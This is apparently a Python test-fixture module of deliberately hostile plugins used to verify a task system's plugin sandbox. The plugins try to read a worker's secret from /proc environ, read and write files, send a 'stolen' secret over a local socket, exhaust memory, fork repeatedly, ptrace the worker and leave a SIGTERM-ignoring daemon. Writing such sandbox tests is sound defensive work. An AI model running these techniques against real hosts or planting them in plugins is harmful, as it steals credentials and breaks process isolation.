"""Hostile plugins: each one really tries to break out when asked for a result.

Each registers a result backend named after itself; `get_result(anything)` makes the
attempt and returns `{"outcome": "denied" | "succeeded", "detail": ...}`. Under the
default policy every attempt is denied; with a policy that grants the access it
succeeds, which proves the sandbox (not a broken plugin) is what stopped it. The tests
in `tests/hostile/` run them all as real hosts; `docs/security.md` explains each layer.

Settings (from `[plugin.hostile_<kind>].settings`): `secret_name` (an environment
variable of the worker), `worker_pid` (hosts are forked by Nuvom's zygote, so the
worker is not their parent), `secret_file`, `target_file`, `port`, `allocate_mb`, `children`.
"""

import ctypes
import os
import signal
import socket
import time

from nuvom.plugins.contracts import Plugin
from nuvom.result_backends.memory import MemoryResultBackend

SETTINGS: dict = {}
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17


def denied(error: BaseException) -> dict:
    return {"outcome": "denied", "detail": f"{type(error).__name__}: {error}"}


def succeeded(detail) -> dict:
    return {"outcome": "succeeded", "detail": detail}


def worker_pid() -> int:
    return int(SETTINGS.get("worker_pid") or os.getppid())


def read_worker_secret() -> dict:
    """The worker's secret, from our environment or from the worker's /proc/<pid>/environ."""
    name = SETTINGS["secret_name"]
    if name in os.environ:
        return succeeded(os.environ[name])
    try:
        with open(f"/proc/{worker_pid()}/environ", "rb") as environ:
            for entry in environ.read().split(b"\0"):
                if entry.startswith(name.encode() + b"="):
                    return succeeded(entry.split(b"=", 1)[1].decode())
        return {"outcome": "denied", "detail": "readable, but the secret is not in it"}
    except OSError as error:
        return denied(error)


def read_file() -> dict:
    try:
        with open(SETTINGS["secret_file"]) as secret:
            return succeeded(secret.read())
    except OSError as error:
        return denied(error)


def write_file() -> dict:
    try:
        with open(SETTINGS["target_file"], "w") as target:
            target.write("written by a hostile plugin")
        return succeeded(SETTINGS["target_file"])
    except OSError as error:
        return denied(error)


def phone_home() -> dict:
    try:
        with socket.create_connection(("127.0.0.1", int(SETTINGS["port"])), timeout=2) as connection:
            connection.sendall(b"stolen: " + os.environ.get(SETTINGS.get("secret_name", ""), "").encode())
        return succeeded(f"connected to 127.0.0.1:{SETTINGS['port']}")
    except OSError as error:
        return denied(error)


def allocate() -> dict:
    """Allocate `allocate_mb`; with `catch = false` the MemoryError is left to the host to report."""
    try:
        block = bytearray(int(SETTINGS.get("allocate_mb", 1024)) * 1024 * 1024)
        return succeeded(f"allocated {len(block) // 2**20} MiB")
    except MemoryError as error:
        if SETTINGS.get("catch") is False:
            raise
        return denied(error)


def spawn_many() -> dict:
    """A fork bomb, bounded here so that the granted run stays polite."""
    started = 0
    try:
        for _ in range(int(SETTINGS.get("children", 20))):
            pid = os.fork()
            if pid == 0:
                os._exit(0)
            os.waitpid(pid, 0)
            started += 1
        return succeeded(f"started {started} processes")
    except OSError as error:
        return denied(error) if started == 0 else succeeded(f"started {started} processes, then {error}")


def attack_worker() -> dict:
    """Signal the worker (signal 0 checks the permission without harm), then try to trace it."""
    worker = worker_pid()
    try:
        os.kill(worker, 0)
    except OSError as error:
        signal_result = denied(error)
    else:
        return succeeded(f"may signal the worker (pid {worker})")
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_SEIZE, worker, None, None) == 0:
        libc.ptrace(PTRACE_DETACH, worker, None, None)
        return succeeded(f"traced the worker (pid {worker})")
    error = ctypes.get_errno()
    return denied(OSError(error, f"signal: {signal_result['detail']}; ptrace: {os.strerror(error)}"))


def leave_grandchild() -> dict:
    """Double fork and setsid: a daemon outside the host's process group that outlives it."""
    try:
        read_end, write_end = os.pipe()
        child = os.fork()
    except OSError as error:
        return denied(error)
    if child == 0:
        os.setsid()
        grandchild = os.fork()
        if grandchild == 0:
            os.close(read_end)
            os.write(write_end, str(os.getpid()).encode())
            os.close(write_end)
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            time.sleep(600)
        os._exit(0)
    os.close(write_end)
    os.waitpid(child, 0)
    pid = os.read(read_end, 32).decode()
    os.close(read_end)
    return succeeded(int(pid))


ATTACKS = {
    "env": read_worker_secret, "read": read_file, "write": write_file, "network": phone_home,
    "memory": allocate, "fork": spawn_many, "worker": attack_worker, "grandchild": leave_grandchild,
}


def plugin_class(kind):
    attack = ATTACKS[kind]

    class Attacking(MemoryResultBackend):
        def get_result(self, job_id):
            return attack()

    class Hostile(Plugin):
        name = f"hostile_{kind}"
        provides = ["result_backend"]

        def start(self, settings):
            from nuvom.plugins.registry import register_result_backend

            SETTINGS.update(settings)
            register_result_backend(f"hostile_{kind}", Attacking)

    return Hostile


class HostileEnv(plugin_class("env")):
    name = "hostile_env"


class HostileRead(plugin_class("read")):
    name = "hostile_read"


class HostileWrite(plugin_class("write")):
    name = "hostile_write"


class HostileNetwork(plugin_class("network")):
    name = "hostile_network"


class HostileMemory(plugin_class("memory")):
    name = "hostile_memory"


class HostileFork(plugin_class("fork")):
    name = "hostile_fork"


class HostileWorker(plugin_class("worker")):
    name = "hostile_worker"


class HostileGrandchild(plugin_class("grandchild")):
    name = "hostile_grandchild"
